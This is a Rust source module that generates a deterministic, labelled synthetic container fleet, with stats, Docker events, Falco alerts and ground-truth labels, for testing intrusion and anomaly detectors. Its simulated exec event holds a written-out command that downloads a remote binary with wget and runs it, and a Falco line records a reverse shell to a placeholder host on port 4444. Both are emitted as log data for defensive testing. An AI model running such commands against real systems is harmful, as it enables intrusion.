//! `herd simulate`: a labelled synthetic fleet in the real input formats.
//!
//! Five images on three hosts share a daily load curve: `shop/web` (6 replicas, agent
//! envelopes, health-check execs, Falco noise on every replica), `shop/api` (5 replicas,
//! raw stats joined through start events, rolled out to a new version that costs 25 %
//! more), `batch/worker` (4 bimodal replicas), `shop/cache` (3 replicas with a memory
//! limit) and `ops/cron` (one replica with an hourly job). After the first day (the
//! baselines' learning period) eight attacks hit single replicas and one hits every
//! replica of `shop/cache` at once, between benign episodes that must stay quiet.
//! `labels.json` says what happened when.
//!
//! Output: `stats.jsonl` (envelopes), `stats-raw.jsonl`, `events.jsonl` (Docker events),
//! `falco.jsonl`, `labels.json`. Deterministic: the same seed gives the same bytes.

mod fleet;
mod formats;

use std::fs::{self, File};
use std::io::{BufWriter, Write};
use std::path::Path;

use anyhow::Context;
use herd_ingest::time::format_ms;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use fleet::{Container, Effect, Format, HOUR, Kind, MIN};
use formats::{Ident, docker_event, envelope, falco, stats_object};

/// Simulation settings.
#[derive(Debug, Clone, Copy)]
pub struct SimConfig {
    /// Random seed.
    pub seed: u64,
    /// Hours of fleet time.
    pub hours: u32,
    /// Seconds between stats samples.
    pub interval_s: u32,
    /// Every attack happens again this many hours later on the same containers, where
    /// it still fits in the run and they still run (`herd simulate --recur-after-h`):
    /// the fleet an analyst's verdict on the first episode is judged on.
    pub recur_after_h: Option<u32>,
}

/// What was written.
#[derive(Debug, Clone, Copy)]
pub struct SimSummary {
    /// Lines written.
    pub lines: u64,
    /// Files written.
    pub files: usize,
    /// Attacks labelled.
    pub attacks: usize,
    /// Benign windows labelled.
    pub benign: usize,
}

/// One attack on one replica.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackLabel {
    /// Stable id (`a1` …).
    pub id: String,
    /// What it is (`cryptominer`, `exfiltration`, …).
    pub kind: String,
    /// The attacked container (the first, for an attack on several).
    pub container_id: String,
    /// Every attacked container; an alert on any of them detects the attack.
    #[serde(default)]
    pub container_ids: Vec<String>,
    /// Its name.
    pub container_name: String,
    /// Its image.
    pub image: String,
    /// When it starts (RFC 3339).
    pub start: String,
    /// When it ends (RFC 3339).
    pub end: String,
}

/// A benign episode during which no alert may fall on its image.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BenignLabel {
    /// What it is (`surge`, `rollout`, `bimodal`, `healthcheck_exec`, `falco_noise`, `cron_job`).
    pub kind: String,
    /// Image repository it concerns.
    pub repository: String,
    /// Start (RFC 3339).
    pub start: String,
    /// End (RFC 3339).
    pub end: String,
}

/// `labels.json`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Labels {
    /// The seed.
    pub seed: u64,
    /// Simulation start.
    pub start: String,
    /// Simulation end.
    pub end: String,
    /// Attacks.
    pub attacks: Vec<AttackLabel>,
    /// Benign episodes.
    pub benign: Vec<BenignLabel>,
}

/// Simulation start: 2026-11-02T00:00:00Z (epoch ms), for every seed.
pub const T0: i64 = 1_793_577_600_000;

struct Attack {
    kind: &'static str,
    effect: Option<Effect>,
    /// The (first) attacked container.
    target: usize,
    /// Every attacked container (more than one for a fleet-wide attack).
    targets: Vec<usize>,
    start: i64,
    end: i64,
}

struct Out {
    stats: BufWriter<File>,
    raw: BufWriter<File>,
    events: BufWriter<File>,
    falco: BufWriter<File>,
    lines: u64,
}

impl Out {
    fn write(&mut self, which: Sink, line: &str) -> std::io::Result<()> {
        self.lines += 1;
        let w = match which {
            Sink::Stats => &mut self.stats,
            Sink::Raw => &mut self.raw,
            Sink::Events => &mut self.events,
            Sink::Falco => &mut self.falco,
        };
        w.write_all(line.as_bytes())?;
        w.write_all(b"\n")
    }
}

#[derive(Clone, Copy)]
enum Sink {
    Stats,
    Raw,
    Events,
    Falco,
}

/// Writes the fleet for `cfg` into `dir`.
pub fn simulate(cfg: &SimConfig, dir: &Path) -> anyhow::Result<SimSummary> {
    anyhow::ensure!(cfg.interval_s >= 1, "--interval-s: must be at least 1");
    anyhow::ensure!(cfg.hours >= 1, "--hours: must be at least 1");
    fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
    let open = |n: &str| -> anyhow::Result<BufWriter<File>> {
        let p = dir.join(n);
        Ok(BufWriter::new(
            File::create(&p).with_context(|| format!("creating {}", p.display()))?,
        ))
    };
    let mut out = Out {
        stats: open("stats.jsonl")?,
        raw: open("stats-raw.jsonl")?,
        events: open("events.jsonl")?,
        falco: open("falco.jsonl")?,
        lines: 0,
    };
    let mut rng = ChaCha8Rng::seed_from_u64(cfg.seed);
    let end = T0 + i64::from(cfg.hours) * HOUR;
    let dt = i64::from(cfg.interval_s) * 1000;

    let web_digest = format!("sha256:{}", fleet::hex_id(&mut rng));
    let worker_digest = format!("sha256:{}", fleet::hex_id(&mut rng));
    let cache_digest = format!("sha256:{}", fleet::hex_id(&mut rng));
    let mut cs: Vec<Container> = Vec::new();
    let add = |rng: &mut ChaCha8Rng,
               cs: &mut Vec<Container>,
               who: Ident,
               kind: Kind,
               format: Format,
               from: i64| {
        let rf = 0.9 + 0.2 * rng.random::<f64>();
        cs.push(Container {
            ident: who,
            kind,
            format,
            rf,
            from_ms: from,
            to_ms: None,
            counters: formats::Counters {
                system_ns: 1e15 + rng.random::<f64>() * 1e14,
                ..Default::default()
            },
            prev: None,
            busy: rng.random_bool(0.3),
            next_switch_ms: from + rng.random_range(0..40 * MIN),
            hc_offset_ms: rng.random_range(0..120_000),
            falco_next_ms: from + rng.random_range(0..300_000),
            restarted_at: None,
        });
    };
    // (service, replicas, image, digest, first host, workload, stats format).
    let fleet_spec = [
        (
            "web",
            6,
            "shop/web:1.4",
            Some(&web_digest),
            0,
            Kind::Web,
            Format::Envelope,
        ),
        (
            "api",
            5,
            "shop/api:2.3",
            None,
            1,
            Kind::Api { version: 1.0 },
            Format::Raw,
        ),
        (
            "worker",
            4,
            "batch/worker:7",
            Some(&worker_digest),
            2,
            Kind::Worker,
            Format::Envelope,
        ),
        (
            "cache",
            3,
            "shop/cache:6.2",
            Some(&cache_digest),
            0,
            Kind::Cache,
            Format::Envelope,
        ),
        ("cron", 1, "ops/cron:3", None, 0, Kind::Cron, Format::Raw),
    ];
    for (service, replicas, image, digest, host, kind, format) in fleet_spec {
        for i in 0..replicas {
            let name = format!("{service}-{}", i + 1);
            let who = fleet::ident(
                &mut rng,
                &name,
                image,
                digest.map(String::as_str),
                i + host,
                service,
            );
            add(&mut rng, &mut cs, who, kind, format, T0);
        }
    }
    let idx =
        |cs: &[Container], name: &str| cs.iter().position(|c| c.ident.name == name).unwrap_or(0);

    // Rollout of shop/api 2.3 → 2.4 at 34 h: one replica every two minutes.
    let rollout_at = T0 + 34 * HOUR;
    let mut new_api = Vec::new();
    if rollout_at < end {
        for i in 0..5 {
            let old = idx(&cs, &format!("api-{}", i + 1));
            let t = rollout_at + i as i64 * 2 * MIN;
            cs[old].to_ms = Some(t);
            let who = fleet::ident(
                &mut rng,
                &format!("api-{}", i + 1),
                "shop/api:2.4",
                None,
                i + 1,
                "api",
            );
            add(
                &mut rng,
                &mut cs,
                who,
                Kind::Api { version: 1.25 },
                Format::Raw,
                t + 5_000,
            );
            new_api.push(cs.len() - 1);
        }
    }
    let h = |x: f64| T0 + (x * HOUR as f64) as i64;
    // (kind, effect on metrics, target, start hour, minutes). All after the first day,
    // the baselines' learning period; exec_and_download hits a replica of the new
    // version, while its baseline re-learns after the rollout.
    #[rustfmt::skip]
    let table: [(&str, Option<Effect>, &str, f64, i64); 7] = [
        ("exfiltration",             Some(Effect::Exfiltration), "api-2",    26.0,  25),
        ("cryptominer",              Some(Effect::Miner),        "web-3",    28.0,  45),
        ("memory_leak_oom",          Some(Effect::MemoryLeak),   "cache-2",  30.0,  60),
        ("cpu_spike_single_replica", Some(Effect::CpuSpike),     "cron-1",   32.33, 15),
        ("fork_bomb",                Some(Effect::ForkBomb),     "worker-1", 36.0,  10),
        ("disk_write_burst",         Some(Effect::DiskBurst),    "worker-3", 42.0,  10),
        ("reverse_shell",            None,                       "web-5",    44.0,  10),
    ];
    let mut attacks: Vec<Attack> = table
        .iter()
        .map(|&(kind, effect, name, hour, minutes)| Attack {
            kind,
            effect,
            target: idx(&cs, name),
            targets: vec![idx(&cs, name)],
            start: h(hour),
            end: h(hour) + minutes * MIN,
        })
        .collect();
    if let Some(api4) = new_api.get(3) {
        attacks.push(Attack {
            kind: "exec_and_download",
            effect: Some(Effect::Download),
            target: *api4,
            targets: vec![*api4],
            start: h(40.5),
            end: h(40.5) + 10 * MIN,
        });
    }
    // A fleet-wide compromise: every cache replica starts mining at once. Its peers
    // move with it, so only the group's own history can tell.
    let caches: Vec<usize> = (1..=3).map(|i| idx(&cs, &format!("cache-{i}"))).collect();
    attacks.push(Attack {
        kind: "fleet_cryptominer",
        effect: Some(Effect::Miner),
        target: caches[0],
        targets: caches,
        start: h(46.5),
        end: h(46.5) + 20 * MIN,
    });
    if let Some(after) = cfg.recur_after_h.filter(|h| *h > 0) {
        let shift = i64::from(after) * HOUR;
        let runs = |c: &Container, from: i64, to: i64| {
            c.from_ms <= from && c.to_ms.is_none_or(|t| t >= to + MIN)
        };
        let again: Vec<Attack> = attacks
            .iter()
            .map(|a| Attack {
                targets: a.targets.clone(),
                start: a.start + shift,
                end: a.end + shift,
                ..*a
            })
            .filter(|a| a.targets.iter().all(|t| runs(&cs[*t], a.start, a.end)))
            .collect();
        attacks.extend(again);
    }
    attacks.retain(|a| a.end <= end);
    let surge = (h(38.0), h(38.0) + 40 * MIN);

    let mut pending: Vec<(i64, Sink, String)> = Vec::new();
    // Start events for every container alive at the start, just before it.
    for c in &cs {
        if c.from_ms == T0 {
            pending.push((
                T0 - 1000,
                Sink::Events,
                docker_event(T0 - 1000, &c.ident, "start", &[]),
            ));
        }
    }
    let mut t = T0;
    let mut uuid_n = 0u64;
    while t < end {
        let tick_end = t + dt;
        for c in cs.iter_mut() {
            let (from, to) = (c.from_ms, c.to_ms.unwrap_or(i64::MAX));
            if from > T0 && from >= t && from < tick_end {
                pending.push((
                    from,
                    Sink::Events,
                    docker_event(from, &c.ident, "start", &[]),
                ));
            }
            if to >= t && to < tick_end {
                pending.push((
                    to,
                    Sink::Events,
                    docker_event(to, &c.ident, "kill", &[("signal", "15".into())]),
                ));
                pending.push((
                    to + 300,
                    Sink::Events,
                    docker_event(to + 300, &c.ident, "die", &[("exitCode", "0".into())]),
                ));
            }
            if !(from <= t && t < to) {
                continue;
            }
            // Health-check execs every two minutes on web and api replicas.
            if matches!(c.kind, Kind::Web | Kind::Api { .. }) {
                let mut k = (t - from - c.hc_offset_ms).div_euclid(120_000) + 1;
                loop {
                    let at = from + c.hc_offset_ms + k * 120_000;
                    if at >= tick_end {
                        break;
                    }
                    if at >= t {
                        let path = if matches!(c.kind, Kind::Api { version } if version > 1.0) {
                            "/health/ready"
                        } else {
                            "/healthz"
                        };
                        let cmd = format!(
                            "exec_create: /bin/sh -c curl -fsS http://localhost:8080{path}"
                        );
                        let exec_id = fleet::hex_id(&mut rng);
                        pending.push((
                            at,
                            Sink::Events,
                            docker_event(at, &c.ident, &cmd, &[("execID", exec_id.clone())]),
                        ));
                        let cmd = cmd.replacen("exec_create", "exec_start", 1);
                        pending.push((
                            at + 20,
                            Sink::Events,
                            docker_event(at + 20, &c.ident, &cmd, &[("execID", exec_id)]),
                        ));
                    }
                    k += 1;
                }
            }
            // Falco noise on every web replica: nginx reading its TLS key every ~5 min.
            if c.kind == Kind::Web && c.falco_next_ms < tick_end {
                let at = c.falco_next_ms.max(t);
                uuid_n += 1;
                let line = falco(
                    at,
                    &format!("00000000-0000-4000-8000-{uuid_n:012}"),
                    &c.ident,
                    "Read sensitive file untrusted",
                    "Warning",
                    "/usr/sbin/nginx",
                    "nginx: worker process",
                    "www-data",
                    None,
                    &[
                        "container",
                        "filesystem",
                        "mitre_credential_access",
                        "T1555",
                    ],
                );
                pending.push((at, Sink::Falco, line));
                c.falco_next_ms = at + 240_000 + rng.random_range(0..120_000);
            }
        }
        // Attack events.
        for a in &attacks {
            let c = &cs[a.target];
            match a.kind {
                "exec_and_download" if a.start >= t && a.start < tick_end => {
                    let exec_id = fleet::hex_id(&mut rng);
                    let cmd = "sh -c wget -q http://198.51.100.23/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k";
                    pending.push((
                        a.start,
                        Sink::Events,
                        docker_event(
                            a.start,
                            &c.ident,
                            &format!("exec_create: {cmd}"),
                            &[("execID", exec_id.clone())],
                        ),
                    ));
                    pending.push((
                        a.start + 15,
                        Sink::Events,
                        docker_event(
                            a.start + 15,
                            &c.ident,
                            &format!("exec_start: {cmd}"),
                            &[("execID", exec_id)],
                        ),
                    ));
                }
                "reverse_shell" => {
                    for at in [a.start, a.start + 40_000] {
                        if at >= t && at < tick_end {
                            uuid_n += 1;
                            let line = falco(
                                at,
                                &format!("00000000-0000-4000-8000-{uuid_n:012}"),
                                &c.ident,
                                "Redirect STDOUT/STDIN to Network Connection in Container",
                                "Notice",
                                "/bin/sh",
                                "sh -i",
                                "www-data",
                                Some(("10.0.0.15", "203.0.113.7", 4444)),
                                &[
                                    "container",
                                    "network",
                                    "process",
                                    "mitre_execution",
                                    "T1059",
                                ],
                            );
                            pending.push((at, Sink::Falco, line));
                        }
                    }
                }
                "memory_leak_oom" | "fork_bomb" if a.end >= t && a.end < tick_end => {
                    let who = c.ident.clone();
                    if a.kind == "memory_leak_oom" {
                        pending.push((a.end, Sink::Events, docker_event(a.end, &who, "oom", &[])));
                    } else {
                        pending.push((
                            a.end,
                            Sink::Events,
                            docker_event(a.end, &who, "kill", &[("signal", "9".into())]),
                        ));
                    }
                    pending.push((
                        a.end + 200,
                        Sink::Events,
                        docker_event(a.end + 200, &who, "die", &[("exitCode", "137".into())]),
                    ));
                    pending.push((
                        a.end + 1500,
                        Sink::Events,
                        docker_event(a.end + 1500, &who, "start", &[]),
                    ));
                    cs[a.target].restarted_at = Some(a.end + 1500);
                }
                _ => {}
            }
        }
        // Stats at the end of the tick.
        let now = tick_end.min(end);
        for (ci, c) in cs.iter_mut().enumerate() {
            if !(c.from_ms <= now && now < c.to_ms.unwrap_or(i64::MAX)) || now - c.from_ms < 1000 {
                continue;
            }
            if let Some(r) = c.restarted_at
                && r <= now
            {
                c.restarted_at = None;
                c.reset_counters();
            }
            let mut effects: Vec<(Effect, f64)> = attacks
                .iter()
                .filter(|a| a.targets.contains(&ci) && a.start <= now && now < a.end)
                .filter_map(|a| {
                    a.effect
                        .map(|e| (e, (now - a.start) as f64 / (a.end - a.start) as f64))
                })
                .collect();
            if c.kind == Kind::Web && surge.0 <= now && now < surge.1 {
                effects.push((Effect::Surge, 0.0));
            }
            let rates = c.rates(now, &effects, &mut rng);
            let gauges = c.advance(&rates, dt);
            let line = match c.format {
                Format::Envelope => envelope(
                    &c.ident,
                    &stats_object(now, &c.ident, &c.counters, c.prev.as_ref(), &gauges),
                ),
                Format::Raw => stats_object(now, &c.ident, &c.counters, None, &gauges),
            };
            pending.push((
                now,
                if c.format == Format::Envelope {
                    Sink::Stats
                } else {
                    Sink::Raw
                },
                line,
            ));
        }
        pending.sort_by_key(|(ts, _, _)| *ts);
        for (_, sink, line) in pending.drain(..) {
            out.write(sink, &line)?;
        }
        t = tick_end;
    }
    for w in [
        &mut out.stats,
        &mut out.raw,
        &mut out.events,
        &mut out.falco,
    ] {
        w.flush()?;
    }

    let all = |kind: &str, repo: &str| BenignLabel {
        kind: kind.into(),
        repository: repo.into(),
        start: format_ms(T0),
        end: format_ms(end),
    };
    let mut benign = vec![
        all("healthcheck_exec", "shop/web"),
        all("healthcheck_exec", "shop/api"),
        all("falco_noise", "shop/web"),
        all("bimodal", "batch/worker"),
        all("cron_job", "ops/cron"),
    ];
    if surge.1 <= end {
        benign.push(BenignLabel {
            kind: "surge".into(),
            repository: "shop/web".into(),
            start: format_ms(surge.0),
            end: format_ms(surge.1),
        });
    }
    if rollout_at < end {
        benign.push(BenignLabel {
            kind: "rollout".into(),
            repository: "shop/api".into(),
            start: format_ms(rollout_at),
            end: format_ms((rollout_at + 2 * HOUR).min(end)),
        });
    }
    let labels = Labels {
        seed: cfg.seed,
        start: format_ms(T0),
        end: format_ms(end),
        attacks: attacks
            .iter()
            .enumerate()
            .map(|(i, a)| AttackLabel {
                id: format!("a{}", i + 1),
                kind: a.kind.into(),
                container_id: cs[a.target].ident.id.clone(),
                container_ids: a.targets.iter().map(|t| cs[*t].ident.id.clone()).collect(),
                container_name: cs[a.target].ident.name.clone(),
                image: cs[a.target].ident.image.clone(),
                start: format_ms(a.start),
                end: format_ms(a.end),
            })
            .collect(),
        benign,
    };
    fs::write(dir.join("labels.json"), serde_json::to_vec_pretty(&labels)?)?;
    Ok(SimSummary {
        lines: out.lines,
        files: 5,
        attacks: labels.attacks.len(),
        benign: labels.benign.len(),
    })
}
